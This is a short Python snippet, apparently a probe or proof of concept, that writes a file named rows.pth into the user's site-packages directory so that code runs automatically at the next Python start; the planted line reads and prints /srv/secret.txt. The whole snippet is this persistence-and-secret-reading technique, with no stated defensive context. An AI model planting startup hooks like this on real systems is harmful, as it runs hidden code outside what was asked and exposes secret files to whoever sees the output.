# reaches: a .pth file in the user's site directory runs at the next start
import os, site
where = site.getusersitepackages()
os.makedirs(where, exist_ok=True)
with open(where + "/rows.pth", "w") as f:
    f.write("import sys; print(open('/srv/secret.txt').read())\n")
